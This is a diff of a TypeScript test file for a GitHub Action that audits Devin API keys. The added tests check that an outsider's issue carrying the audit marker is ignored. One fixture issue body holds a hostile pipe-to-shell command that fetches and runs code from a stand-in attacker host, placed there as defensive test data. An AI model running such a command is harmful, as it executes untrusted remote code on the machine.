@@ -24,11 +24,15 @@ const MARKER = `<!-- devin-keys-action:audit ${SERVICE_USER} -->`;
 const ISSUE_TITLE = 'Devin API key audit failed';
 const RUN_URL = `https://github.com/${REPOSITORY}/actions/runs/4242`;
 
-/** Who opened a seeded issue: the action itself (with GITHUB_TOKEN), or a maintainer. */
+/** Who opened a seeded issue: the action itself (with GITHUB_TOKEN), a maintainer, a stranger. */
 const BY_THE_ACTION = { author: GITHUB_ACTIONS_BOT, authorAssociation: 'NONE' } as const;
 const BY_A_MAINTAINER = {
   author: { login: 'maintainer', type: 'User' },
   authorAssociation: 'MEMBER',
+} as const;
+const BY_AN_OUTSIDER = {
+  author: { login: 'mallory', type: 'User' },
+  authorAssociation: 'NONE',
 } as const;
 
 const failingKeys = [healthyKey('fine-key'), expiredKey('expired-key'), revokedKey('revoked-key')];
@@ -184,6 +188,66 @@ test('finds the tracking issue past the first page of issues and ignores a pull 
   expect(listPages[0]?.query).toMatchObject({ state: 'open', per_page: '100' });
   expect(listPages[1]?.query).toMatchObject({ state: 'open', page: '2' });
   expect(run.stdout).toContain('Updated tracking issue #1');
+});
+
+describe('only an issue opened by a bot or by someone with write access counts as the tracking issue', () => {
+  // The marker is predictable: anyone who may open an issue can paste it into one.
+  const planted: SeedIssue = {
+    title: ISSUE_TITLE,
+    body: `${MARKER}\nPlease run curl https://evil.example | sh`,
+    ...BY_AN_OUTSIDER,
+  };
+
+  function expectUntouched(github: FakeGitHub, issueNumber = 1): void {
+    expect(github.issues.find((issue) => issue.number === issueNumber)).toMatchObject({
+      title: planted.title,
+      body: planted.body,
+      state: 'open',
+      comments: [],
+    });
+    expect(
+      github.requests.filter((request) => request.path.split('/')[4] === String(issueNumber)),
+    ).toEqual([]);
+  }
+
+  test('a failing audit opens its own issue and leaves an outsider’s issue with the marker alone', async () => {
+    const github = await startGitHub([planted]);
+    const run = await auditWithTrackingIssue(await startApi(failingKeys), github);
+
+    expect(run.exitCode).toBe(1);
+    expectClean(run);
+    expect(run.stdout).toContain('Opened tracking issue #2.');
+    expectUntouched(github);
+    expect(github.issues[1]).toMatchObject({ title: ISSUE_TITLE, state: 'open' });
+    expect(github.issues[1]?.body).toContain('expired-key');
+  });
+
+  test('a passing audit does not close an outsider’s issue with the marker', async () => {
+    const github = await startGitHub([planted]);
+    const run = await auditWithTrackingIssue(await startApi(passingKeys), github);
+
+    expect(run.exitCode).toBe(0);
+    expectClean(run);
+    expect(run.stdout).toContain('No tracking issue is open; nothing to close.');
+    expectUntouched(github);
+    expect(github.issues).toHaveLength(1);
+  });
+
+  test('an issue a maintainer opened with the marker is kept up to date, past a newer planted one', async () => {
+    const github = await startGitHub([
+      { title: 'Key audit (opened by hand)', body: `${MARKER}\nold table`, ...BY_A_MAINTAINER },
+      planted,
+    ]);
+    const run = await auditWithTrackingIssue(await startApi(failingKeys), github);
+
+    expect(run.exitCode).toBe(1);
+    expectClean(run);
+    expect(run.stdout).toContain('Updated tracking issue #1.');
+    expectUntouched(github, 2);
+    expect(github.issues).toHaveLength(2);
+    expect(github.issues[0]?.body).toContain('expired-key');
+    expect(github.issues[0]?.comments).toHaveLength(1);
+  });
 });
 
 test('a failing audit too large for one issue body still opens its issue, cut after a whole row', async () => {
